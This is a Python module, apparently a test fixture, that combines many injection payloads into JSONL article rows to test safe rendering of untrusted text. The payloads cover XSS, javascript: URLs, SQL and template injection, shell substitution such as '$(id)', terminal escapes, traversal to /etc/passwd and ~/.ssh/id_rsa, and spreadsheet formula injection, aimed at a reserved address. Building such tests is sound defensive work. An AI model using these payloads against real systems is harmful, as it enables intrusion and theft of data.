"""Texts that would do something wherever one of them were taken for more than text: a list of ours, by combination.

Each is one line. What would run sets ``window.bad``; what would be fetched is at ``ELSEWHERE``, an address that
nobody has (RFC 5737); what would be shown letter by letter is all of it.
"""

from __future__ import annotations

from itertools import product

ELSEWHERE = "http://192.0.2.7/bad"
_RUN = "window.bad=1"

_WAYS_OUT = ("", '">', "'>", "</p>", "--></style></script>", "</textarea></title>", "</mark></blockquote>", "]]>")
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={ELSEWHERE}>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<style>@import '{ELSEWHERE}';*{{display:none}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
)
_ATTRIBUTES = tuple(
    f"{quote} {attribute} x={quote}"
    for quote, attribute in product(
        ('"', "'", "`", ""),
        (f"onmouseover={_RUN}", f"onfocus={_RUN} autofocus tabindex=0", f"style=background:url({ELSEWHERE})"),
    )
)
_ENTITIES = ("&lt;script&gt;", "&#60;b&#62;", "&amp;amp;", "&nbsp;", "&#x202e;", "\\u003cb\\u003e", "%3Cscript%3E")
_MARKDOWN = (
    f"![x]({ELSEWHERE})",
    f"[x](javascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x]: {ELSEWHERE}",
    f"[![x]({ELSEWHERE})](data:text/html,x)",
    "**bold** __bold__ *it* ~~struck~~",
    "`code` ``code``",
    "| a | b |",
    ":red[x] :blue-background[x] :material/home: :smile: :streamlit:",
    "a\\*b\\_c \\# x",
    "x[^1] ==x== ~x~ ^x^",
    "<!-- x -->",
)
_TEX = tuple(
    f"{start}{formula}{end}"
    for (start, end), formula in product(
        (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("", "")),
        ("x^2", f"\\href{{javascript:{_RUN}}}{{x}}", f"\\includegraphics{{{ELSEWHERE}}}", "\\input{/etc/passwd}"),
    )
)
ADDRESSES = tuple(
    f"{scheme}{rest}"
    for scheme, rest in product(
        ("javascript:", "JaVaScRiPt:", "java&#9;script:", " javascript:", "data:text/html,", "vbscript:", "blob:"),
        (_RUN, f"//%0a{_RUN}", f"<script>{_RUN}</script>"),
    )
)
_QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE passages; --",
    '" UNION SELECT text FROM articles --',
    "x'/**/AND/**/1=1#",
    "title:massage AND NEAR(a b, 3)",
    "mass* ^rest -pain +disc",
    '"never closed',
    "a:b^2 ~ (x OR y) {a TO b}",
)
_FORMATS = (
    "%s%s%s%n",
    "%(x)s %x %1$*2$d",
    "{} {0} {x!r:>{y}}",
    "{0.__class__.__mro__}",
    "{self.__init__.__globals__} {x.__dict__}",
    "\\N{BELL} \\x41 \\101 \\r\\n",
    "!x @x ?x ~x ^x",
    "__import__('os').mkdir('x')",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "$(id) `id` ;id |id &&id",
)
_STEERING = tuple(
    start + rest
    for start, rest in product(
        ("\x1b", "\x9b", "\x1b\\\x1b"), ("[2J", "]0;bad\x07", f"]8;;{ELSEWHERE}\x07x", "[31m", "P$q\x1b\\", "c")
    )
)
TERMINAL = (*_STEERING, "a\x08\x08b", "a\x7fb", "a\x85b", "\u202egnp.exe\u202c", "\u2066a\u2069", "\u200fa\u200e")
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/zero",
    "file:///etc/passwd",
    "\\\\192.0.2.7\\share",
    "C:\\con",
    "%2e%2e%2fetc",
    "~/.ssh/id_rsa",
)
_TABLES = tuple(
    f"{sign}{formula}"
    for sign, formula in product(
        ("=", "+", "-", "@", "\t="), ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{ELSEWHERE}","x")', "SUM(1,2)")
    )
)
_STYLES = (
    f"}}*{{background:url({ELSEWHERE})}}",
    f"url('{ELSEWHERE}')",
    f"expression({_RUN})",
    f"@import url({ELSEWHERE});",
    f"@font-face{{src:url({ELSEWHERE})}}",
    "</style><style>*{display:none}",
)

# What can stand in any file and be seen.
VISIBLE = (
    *(way + element for way, element in product(_WAYS_OUT, _ELEMENTS)),
    *_ATTRIBUTES,
    *_ENTITIES,
    *_MARKDOWN,
    *_TEX,
    *ADDRESSES,
    *_QUERIES,
    *_FORMATS,
    *_PATHS,
    *_TABLES,
    *_STYLES,
)
ALL = (*VISIBLE, *TERMINAL)


def rows(of: tuple[str, ...], count: int) -> list[dict[str, object]]:
    """Articles, ``count`` payloads each: rows of a JSONL file. Article n answers to ``word(n)``.

    All payloads of an article are lines of its text and part of its title; one of them stands in every other field.
    """
    found: list[dict[str, object]] = []
    for number, some in enumerate(of[start : start + count] for start in range(0, len(of), count)):
        text = "\n".join(f"{word(number)} {payload}" for payload in some)
        fields = {name: some[0] for name in ("publisher", "published", "reviewed", "language", "licence")}
        lists = {name: list(some[:3]) for name in ("authors", "reviewed_by", "also_called")}
        title = f"{word(number)} {' '.join(' '.join(some).split())}"
        found.append(
            {"id": some[0], "title": title, "text": text, "url": ADDRESSES[number % len(ADDRESSES)], **fields, **lists}
        )
    return found


def word(number: int) -> str:
    """A word that no other article has."""
    return "zebrafinch" + "".join(chr(ord("a") + int(digit)) * 2 for digit in str(number))
